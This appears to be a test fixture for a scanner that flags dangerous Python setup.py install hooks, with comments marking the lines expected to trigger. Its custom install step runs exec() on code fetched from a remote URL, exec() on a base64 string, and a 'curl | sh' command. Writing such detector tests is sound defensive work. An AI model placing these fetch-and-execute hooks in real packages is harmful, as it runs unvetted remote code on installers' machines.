from base64 import b64decode
import os
from urllib.request import urlopen
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        # expect: install-script/fetched-code
        exec(urlopen("https://get.acme-tools.dev/x.py").read())
        # expect: install-script/hidden-code
        exec(b64decode("cHJpbnQoMSk="))
        # expect: install-script/fetched-code
        os.system("curl -fsSL https://get.acme-tools.dev/x.sh | sh")


# ok: install-script/fetched-code, install-script/hidden-code
exec(open("shop/version.py").read())
# ok: install-script/setup-code
setup(name="shop", cmdclass={"install": Install})
